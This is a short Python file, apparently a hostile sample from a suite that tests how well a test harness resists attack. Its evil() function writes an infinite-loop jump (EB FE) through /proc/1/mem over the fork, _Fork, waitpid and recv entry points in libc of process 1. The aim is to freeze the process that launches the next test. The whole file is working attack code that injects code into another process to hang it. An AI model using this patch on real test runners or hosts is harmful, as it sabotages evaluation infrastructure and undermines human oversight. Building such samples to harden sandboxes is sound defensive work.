"""Writes an endless loop over the code by which process 1 makes the next test's process.

Promise: C1
"""

import ctypes
def evil(*args):
    libc = ctypes.CDLL(None)
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    for name in ("fork", "_Fork", "waitpid", "recv"):
        try:
            place = ctypes.cast(getattr(libc, name), ctypes.c_void_p).value
            with open("/proc/1/mem", "r+b", buffering=0) as memory:  # a fork has its libraries where its parent has them
                memory.seek(place)
                memory.write(b"\xeb\xfe")
        except (AttributeError, OSError):
            pass
        if name == "_Fork":
            break
    return 0
